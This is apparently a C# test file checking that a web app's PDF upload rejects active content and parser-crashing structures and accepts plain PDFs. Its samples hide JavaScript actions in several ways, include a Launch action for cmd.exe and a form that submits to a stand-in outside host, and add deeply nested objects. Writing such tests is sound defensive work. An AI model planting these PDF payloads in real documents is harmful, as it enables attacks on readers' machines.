using Campus.TestKit;

namespace Campus.HttpTests.Media;

/// <summary>A PDF is read the way a viewer reads it: what acts is found wherever it hides, and a reader that breaks harms nobody.</summary>
public sealed class PdfTests(SharedCampus shared)
{
    private const string Script = "<</S/JavaScript/JS(app.alert(1))>>";
    private const int Deep = 200_000;

    private static readonly (string What, byte[] Bytes, string Sentence)[] Hostile =
    [
        ("a script in a packed stream", PdfSamples.Packed($"/OpenAction{Script}"), "script"),
        ("a script in the tree of names of a packed stream", PdfSamples.Packed($"/Names<</JavaScript<</Names[(a){Script}]>>>>"), "script"),
        ("a program to start, in a packed stream", PdfSamples.Packed("/OpenAction<</S/Launch/F(cmd.exe)>>"), "programma"),
        ("a script that only the second table knows", PdfSamples.Hybrid(Script), "script"),
        ("a script by another spelling", PdfSamples.Plain(0, "/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), "script"),
        ("a script on a page", PdfSamples.Plain(0, "", 1, $"<</Type/Annot/AA<</O{Script}>>>>"), "script"),
        ("a form with code", PdfSamples.Plain(0, "/AcroForm<</XFA[(template)(x)]>>"), "script"),
        ("a form that sends itself", PdfSamples.Plain(0, "/OpenAction<</S/SubmitForm/F(https://kwaad.example)>>"), "script"),
        ("lists in lists without end", PdfSamples.Plain(0, "", 1, new string('[', Deep) + new string(']', Deep)), "niet lezen"),
        ("tables in tables without end", PdfSamples.Plain(0, "", 1, string.Concat(Enumerable.Repeat("<</A ", Deep)) + "1" + string.Concat(Enumerable.Repeat(">>", Deep))), "niet lezen"),
        ("lists in lists in a packed stream", PdfSamples.Packed("/X" + new string('[', Deep) + new string(']', Deep)), "niet lezen"),
        ("a tree of pages that goes round", PdfSamples.Plain(0, "", 1, "<</Type/Pages/Kids[4 0 R]/Count 9>>"), ""),
        ("a table that leads nowhere", Samples.Latin("%PDF-1.4\n1 0 obj<<>>endobj\nxref\n0 2\n0000000000 65535 f \n9999999999 00000 n \ntrailer<</Root 1 0 R/Size 2>>\nstartxref\n27\n%%EOF\n"), ""),
    ];

    [Fact]
    public async Task What_acts_in_a_pdf_is_found_wherever_it_hides_and_a_reader_that_breaks_ends_alone()
    {
        using var roos = await Librarian.AtAsync(shared.Campus);
        List<string> wrong = [];
        foreach (var (what, bytes, sentence) in Hostile)
        {
            var answer = await roos.UploadAsync("kwaad.pdf", bytes, "pdf");
            if ((string?)answer["error"] is { } error ? !error.Contains(sentence, StringComparison.Ordinal) : sentence.Length > 0)
            {
                wrong.Add($"{what}: {answer}");
            }
        }
        wrong.ShouldBeEmpty();
        (await roos.Visitor.GetAsync("/")).Status.ShouldBe(System.Net.HttpStatusCode.OK);
    }

    [Fact]
    public async Task A_pdf_that_only_shows_is_taken_however_it_is_written()
    {
        using var roos = await Librarian.AtAsync(shared.Campus);
        ((string?)(await roos.UploadAsync("gewoon.pdf", PdfSamples.Plain(0), "pdf"))["error"]).ShouldBeNull();
        ((string?)(await roos.UploadAsync("ingepakt.pdf", PdfSamples.Packed("/Lang(nl-NL)"), "pdf"))["error"]).ShouldBeNull();
        ((string?)(await roos.UploadAsync("word.pdf", PdfSamples.Hybrid("<</S/GoTo/D[3 0 R/Fit]>>"), "pdf"))["error"]).ShouldBeNull();
        var words = Samples.Latin("BT (Lees /JavaScript in de gids) Tj ET");
        ((string?)(await roos.UploadAsync("tekst.pdf", PdfSamples.Plain(0, "", 1, $"<</Length {words.Length}>>stream\n{System.Text.Encoding.Latin1.GetString(words)}\nendstream"), "pdf"))["error"])
            .ShouldBeNull();
    }
}
